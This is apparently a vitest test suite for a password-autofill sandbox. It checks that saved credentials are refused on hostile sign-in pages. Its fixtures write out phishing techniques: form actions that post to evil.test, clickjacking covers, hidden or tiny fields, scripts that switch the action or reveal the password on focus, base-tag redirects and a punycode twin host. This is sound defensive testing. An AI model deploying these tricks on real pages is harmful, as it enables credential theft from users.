import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REFUSALS, type Refusal } from '../../electron/engine/sandbox/sign-in/refusals';
import type { SignInForm, SignInSight } from '../../electron/engine/sandbox/sign-in/sign-in-form';
import { makeSecureSandbox } from '../helpers/secure-sandbox';
import { SAMPLE, valuesOf, watched } from '../helpers/sign-in-pages';
import { TestSite } from '../helpers/test-site';

const HOST = 'app.login.test';
const ORIGIN = `https://${HOST}`;
const EVIL = 'https://evil.test';
/** `а` of another script in the place of `a`. */
const TWIN = 'xn--pp-6kc.login.test';
const ADDRESS = '93.184.216.200';
const NEVER = new AbortController().signal;
const FIELDS =
  '<input id="u" name="email" type="email" aria-label="Email"><input id="p" name="pw" type="password" aria-label="Password"><button id="b">Sign in</button>';
const STYLE =
  '<style>body { margin: 20px; } input { display: block; width: 300px; height: 36px; margin: 10px 0; }</style>';

/** A page with a form to sign in with; `around` stands for what is wrong with it. */
function page({
  form = 'action="/session" method="post"',
  fields = FIELDS,
  before = '',
  after = '',
  style = '',
  script = '',
} = {}) {
  return watched(
    `${STYLE}<style>${style}</style><h1>Sign in</h1>${before}<div id="around"><form id="f" ${form}>${fields}</form></div>${after}<script>${script}</script>`,
  );
}
const framed = (attributes: string) =>
  watched(`<h1>Portal</h1><iframe id="frame" ${attributes} style="width:600px;height:400px"></iframe>`);

/** What is wrong, and what is said of it. Each would be filled if that were right. */
const PAGES: Readonly<Record<string, readonly [html: string, why: Refusal]>> = {
  'an action on another host': [page({ form: `action="${EVIL}/session" method="post"` }), 'goes-elsewhere'],
  'an action on another port': [
    page({ form: `action="${ORIGIN}:8443/session" method="post"` }),
    'goes-elsewhere',
  ],
  'an action without TLS': [
    page({ form: `action="http://${HOST}/session" method="post"` }),
    'goes-elsewhere',
  ],
  'an action by mail': [page({ form: 'action="mailto:thief@evil.test" method="post"' }), 'goes-elsewhere'],
  'a formaction on another host': [
    page({ fields: FIELDS.replace('<button', `<button formaction="${EVIL}/x"`) }),
    'goes-elsewhere',
  ],
  'a formaction of a button that can’t be seen': [
    page({ fields: `${FIELDS}<button formaction="${EVIL}/x" hidden>Go</button>` }),
    'goes-elsewhere',
  ],
  'a formaction of a button outside': [
    page({ after: `<button form="f" formaction="${EVIL}/x">Next</button>` }),
    'goes-elsewhere',
  ],
  'fields of one pixel': [
    page({ style: '#u, #p { width: 1px; height: 1px; border: 0; padding: 0 }' }),
    'no-form',
  ],
  'a form of one pixel': [
    page({ style: '#around { width: 1px; height: 1px; overflow: hidden }' }),
    'no-form',
  ],
  'opacity 0': [page({ style: '#u, #p { opacity: 0 }' }), 'no-form'],
  'opacity that adds up over all around': [
    page({ style: '#around { opacity: .8 } #f { opacity: .8 }' }),
    'no-form',
  ],
  'opacity by a filter': [page({ style: '#f { filter: opacity(.1) }' }), 'no-form'],
  'a cover': [page({ after: '<div style="position:fixed;inset:0;background:#fff"></div>' }), 'not-visible'],
  'a cover that can’t be seen': [
    page({ after: '<div style="position:fixed;inset:0;opacity:0"></div>' }),
    'not-visible',
  ],
  'a cover that lets clicks through': [
    page({ after: '<div style="position:fixed;inset:0;background:#fff;pointer-events:none"></div>' }),
    'not-visible',
  ],
  'a cover over one corner of a field': [
    page({
      after: '<div id="c" style="position:absolute;width:90px;height:20px;background:#fff"></div>',
      script:
        'const box = p.getBoundingClientRect(); c.style.left = box.left + "px"; c.style.top = box.top + "px";',
    }),
    'not-visible',
  ],
  'its own label as a cover': [
    page({ after: '<label for="p" style="position:absolute;inset:0;background:#fff">Win a prize</label>' }),
    'not-visible',
  ],
  'fields off the screen': [page({ style: '#f { position: absolute; left: -5000px }' }), 'no-form'],
  'fields above the page': [page({ style: '#f { position: absolute; top: -5000px }' }), 'no-form'],
  'fields moved away by a transform': [page({ style: '#f { transform: translateX(-5000px) }' }), 'no-form'],
  'fields made small by a transform': [page({ style: '#f { transform: scale(.02) }' }), 'no-form'],
  'fields turned on edge': [
    page({ style: '#around { perspective: 900px } #f { transform: rotateY(90deg) }' }),
    'no-form',
  ],
  'a clip': [page({ style: '#f { position: absolute; clip: rect(0 0 0 0) }' }), 'no-form'],
  'a clip path': [page({ style: '#f { clip-path: circle(3px at 0 0) }' }), 'no-form'],
  'a mask': [
    page({
      style:
        '#f { -webkit-mask-image: linear-gradient(transparent, transparent); mask-image: linear-gradient(transparent, transparent) }',
    }),
    'no-form',
  ],
  'visibility hidden': [page({ style: '#u, #p { visibility: hidden }' }), 'no-form'],
  'a field that takes no clicks': [page({ style: '#p { pointer-events: none }' }), 'not-visible'],
  'a dialog above': [
    page({
      after: '<dialog id="d" style="width:90vw;height:90vh">Cookies?</dialog>',
      script: 'd.showModal()',
    }),
    'not-visible',
  ],
  'a popover above': [
    page({
      after: '<div id="d" popover style="width:90vw;height:90vh">Cookies?</div>',
      script: 'd.showPopover()',
    }),
    'not-visible',
  ],
  'editable text as fields': [
    page({
      fields:
        '<div contenteditable aria-label="Email" style="height:40px">x</div><div contenteditable aria-label="Password" style="height:40px">x</div><button>Sign in</button>',
    }),
    'password-as-text',
  ],
  'a password that shows what is typed': [
    page({ fields: FIELDS.replace('type="password"', 'type="text"') }),
    'password-as-text',
  ],
  'a form in srcdoc': [framed(`srcdoc="${page().replaceAll('"', '&quot;')}"`), 'no-form'],
  'a frame in a sandbox': [framed('src="/right" sandbox="allow-scripts allow-forms"'), 'other-origin'],
  'a frame of another site': [framed(`src="${EVIL}/right"`), 'no-form'],
  'a frame with opacity 0': [
    framed('src="/right"').replace('height:400px', 'height:400px;opacity:0'),
    'frame-hidden',
  ],
  'a frame under a cover': [
    `${framed('src="/right"')}<div style="position:fixed;inset:0;background:#fff"></div>`,
    'frame-hidden',
  ],
  'a frame under a cover that lets clicks through': [
    `${framed('src="/right"')}<div style="position:fixed;inset:0;background:#fff;pointer-events:none"></div>`,
    'frame-hidden',
  ],
  'a frame in a frame of another site': [framed(`src="${EVIL}/around"`), 'no-form'],
};

/** How a password is kept from being seen, beside a user name that is seen. */
const HIDDEN: Readonly<Record<string, string>> = {
  'of one pixel': '#p { width: 1px; height: 1px; border: 0; padding: 0 }',
  'with opacity 0': '#p { opacity: 0 }',
  'off the screen': '#p { position: absolute; left: -5000px }',
  'that is cut off': '#p { clip-path: inset(50%) }',
  'that is made small': '#p { transform: scale(.01) }',
};

/** What a page does while it is filled, and what becomes of it: one that moves the focus alone gets nothing by that. */
const ATTACKS: Readonly<Record<string, readonly [script: string, kind: 'sent' | 'cleared']>> = {
  'moves the focus on focus': [
    'for (const field of [u, p]) field.addEventListener("focus", () => other.focus());',
    'sent',
  ],
  'moves the focus before input': [
    'for (const field of [u, p]) field.addEventListener("beforeinput", () => other.focus());',
    'sent',
  ],
  'shows the password on focus': ['p.addEventListener("focus", () => { p.type = "text"; });', 'cleared'],
  'shows the password before input': [
    'p.addEventListener("beforeinput", () => { p.type = "text"; });',
    'cleared',
  ],
  'shows the password when the user name is there': [
    'u.addEventListener("input", () => { p.type = "text"; });',
    'cleared',
  ],
  'changes the action on focus': [
    `p.addEventListener("focus", () => { f.action = "${EVIL}/session"; });`,
    'cleared',
  ],
  'changes the action at the last event': [
    `p.addEventListener("change", () => { f.action = "${EVIL}/session"; });`,
    'cleared',
  ],
  'changes the action a moment later': [
    `p.addEventListener("input", () => { Promise.resolve().then(() => { f.action = "${EVIL}/session"; }); });`,
    'cleared',
  ],
  'gives the button another action': [
    `p.addEventListener("input", () => { b.formAction = "${EVIL}/session"; });`,
    'cleared',
  ],
  'puts another field in the place': [
    'u.addEventListener("input", () => { const copy = p.cloneNode(); copy.type = "text"; p.replaceWith(copy); });',
    'cleared',
  ],
  'takes the field out before input': ['p.addEventListener("beforeinput", () => p.remove());', 'cleared'],
  'moves the field to another form': ['p.addEventListener("focus", () => { evil.append(p); });', 'cleared'],
  'covers the field when it is focused': [
    'p.addEventListener("focus", () => { cover.hidden = false; });',
    'cleared',
  ],
  'hides the field when it is focused': [
    'p.addEventListener("focus", () => { p.style.opacity = "0.1"; });',
    'cleared',
  ],
  'goes elsewhere on focus': [
    `u.addEventListener("focus", () => { location.href = "${EVIL}/right"; });`,
    'sent',
  ],
};
const attacking = (script: string) =>
  page({
    before: `<input id="other" aria-label="Search" type="search"><form id="evil" action="${EVIL}/session" method="post"></form>`,
    after: '<div id="cover" hidden style="position:fixed;inset:0;background:#fff"></div>',
    script,
  });

const pathOf = (name: string): string => `/${name.replace(/[^a-z0-9]+/gi, '-')}`;
const site = new TestSite({
  '/right': page(),
  ...Object.fromEntries(Object.entries(PAGES).map(([name, [html]]) => [pathOf(name), html])),
  ...Object.fromEntries(Object.entries(ATTACKS).map(([name, [script]]) => [pathOf(name), attacking(script)])),
  ...Object.fromEntries(Object.entries(HIDDEN).map(([name, style]) => [pathOf(name), page({ style })])),
  '/based': page({
    form: 'action="session" method="post"',
    script: `setTimeout(() => document.head.append(Object.assign(document.createElement("base"), { href: "${EVIL}/" })), 500);`,
  }),
  '/alerting': page({ script: 'setTimeout(() => alert("Stop"), 300);' }),
  '/blob': watched(
    `<script>setTimeout(() => { location.href = URL.createObjectURL(new Blob([${JSON.stringify(page()).replaceAll('</', '<\\/')}], { type: "text/html" })); }, 300);</script>`,
  ),
});
const evil = new TestSite({
  '/right': page(),
  '/around': framed(`src="${ORIGIN}/right"`),
  '/frames-it': framed(`src="${ORIGIN}/right"`),
});
let made: Awaited<ReturnType<typeof makeSecureSandbox>>;

beforeAll(async () => {
  site.redirect('/away', `${EVIL}/right`);
  const secure = {
    [HOST]: site.handle,
    [`${HOST}:8443`]: site.handle,
    'login.test': site.handle,
    [`deep.${HOST}`]: site.handle,
    [TWIN]: evil.handle,
    'evil.test': evil.handle,
  };
  made = await makeSecureSandbox(secure, { [HOST]: site });
});
afterAll(() => made?.dispose());

const find = (): Promise<SignInSight> => made.browser.findSignIn({ with: 'login', origins: [ORIGIN] });
const none = (why: Refusal): SignInSight => ({ kind: 'none', why: REFUSALS[why] });

async function formOf(): Promise<SignInForm> {
  const sight = await find();
  if (sight.kind === 'none') throw new Error(sight.why);
  return sight.form;
}

const secrets = [SAMPLE.password, SAMPLE.userName];
/** Where a secret has come to that is not the password's own field. */
const STRAY = `[...document.querySelectorAll('input,textarea,[contenteditable]')].filter((field) => ${JSON.stringify(secrets)}.some((secret) => (field.value ?? field.textContent).includes(secret))).length`;

describe('nothing is found on', () => {
  it('the very page that it is bound to, but when it is right', async () => {
    await made.open(site, `${ORIGIN}/right`);
    expect(await find()).toMatchObject({ kind: 'form', form: { origin: ORIGIN } });
  });

  it.each([
    ['another port', site, `${ORIGIN}:8443/right`],
    ['a parent domain', site, 'https://login.test/right'],
    ['a subdomain', site, `https://deep.${HOST}/right`],
    ['the same host without TLS', site, `http://${HOST}/right`],
    ['a twin in punycode', evil, `https://${TWIN}/right`],
    ['another site', evil, `${EVIL}/right`],
    ['another site around the right one', evil, `${EVIL}/frames-it`],
  ] as const)('%s', async (_what, on, url) => {
    await made.open(on, url);
    expect(await find()).toEqual(none('other-origin'));
  });

  it('an address in the place of a name', async () => {
    await made.browser.open(`https://${ADDRESS}/right`);
    await expect.poll(() => find()).toEqual(none('other-origin'));
  });

  it('where a redirect of the right site has led', async () => {
    evil.clear();
    await made.browser.open(`${ORIGIN}/away`);
    await evil.until(() => evil.of('ready').length > 0);
    expect(await find()).toEqual(none('other-origin'));
  });

  it('a page without TLS, though it is bound to just that', async () => {
    await made.open(site, `http://${HOST}/right`);
    expect(await made.browser.findSignIn({ with: 'login', origins: [`http://${HOST}`] })).toEqual(
      none('not-secure'),
    );
  });

  it('a blob of the right site', async () => {
    await made.open(site, `${ORIGIN}/blob`);
    await expect.poll(() => find()).toEqual(none('other-origin'));
  });

  it('a page that has a base lead its form elsewhere', async () => {
    await made.open(site, `${ORIGIN}/based`);
    await expect.poll(() => find()).toEqual(none('goes-elsewhere'));
  });

  it('a page behind a message of its own', async () => {
    await made.open(site, `${ORIGIN}/alerting`);
    await expect.poll(() => find()).toEqual(none('dialog-open'));
    await made.browser.open(`${ORIGIN}/right`);
  });

  it.each(Object.entries(PAGES))('a page with %s', async (name, [, why]) => {
    await made.open(site, `${ORIGIN}${pathOf(name)}`);
    expect(await find()).toEqual(none(why));
  });
});

it.each(Object.keys(HIDDEN))('a password %s is not given, though the user name may be', async (name) => {
  await made.open(site, `${ORIGIN}${pathOf(name)}`);
  const form = await formOf();
  expect([form.step, form.fields.map(({ inputType }) => inputType)]).toEqual(['user-name', ['email']]);
  site.posts.length = 0;
  await made.browser.signIn(form, valuesOf('login'), NEVER);
  await site.until(() => site.posts.length > 0);
  expect(site.posts.map(({ body }) => [...new URLSearchParams(body).values()])).toEqual([
    [SAMPLE.userName, ''],
  ]);
});

describe('nothing is filled after it was found', () => {
  it.each([
    ['another node', 'p.replaceWith(p.cloneNode())'],
    ['another type', 'p.type = "text"'],
    ['another action', `f.action = "${EVIL}/session"`],
    ['another action of its button', `b.formAction = "${EVIL}/session"`],
    [
      'a cover',
      'document.body.insertAdjacentHTML("beforeend", "<div style=\'position:fixed;inset:0;background:red\'></div>")',
    ],
    ['another form', 'document.body.append(p)'],
    ['a second password', 'f.append(p.cloneNode())'],
    ['a name that says something else', 'p.setAttribute("autocomplete", "new-password")'],
    [
      'a dialog above',
      'document.body.insertAdjacentHTML("beforeend", "<dialog style=\'width:90vw;height:90vh\'>x</dialog>"), document.querySelector("dialog").showModal()',
    ],
    ['opacity', 'around.style.opacity = 0.3'],
  ])('with %s', async (_what, change) => {
    await made.open(site, `${ORIGIN}/right`);
    const form = await formOf();
    await site.evaluate('/right', `void (${change})`);
    expect(await made.browser.signIn(form, valuesOf('login'), NEVER)).toMatchObject({ kind: 'refused' });
    expect(await site.evaluate('/right', STRAY)).toBe(0);
  });

  it('in another page that is in front by then', async () => {
    await made.open(site, `${ORIGIN}/right`);
    const form = await formOf();
    await made.open(evil, `${EVIL}/right`);
    expect(await made.browser.signIn(form, valuesOf('login'), NEVER)).toEqual({
      kind: 'refused',
      why: REFUSALS['other-origin'],
    });
    expect(await evil.evaluate('/right', STRAY)).toBe(0);
  });
});

describe('a page that', () => {
  it.each(Object.entries(ATTACKS))('%s gets no character anywhere else', async (name, [, expected]) => {
    const path = pathOf(name);
    await made.open(site, `${ORIGIN}${path}`);
    const form = await formOf();
    evil.posts.length = 0;
    const outcome = await made.browser.signIn(form, valuesOf('login'), NEVER);
    expect(evil.posts).toEqual([]);
    expect(outcome.kind).toBe(expected);
    if (outcome.kind === 'sent') return;
    expect(await site.evaluate(path, STRAY)).toBe(0);
  });
});
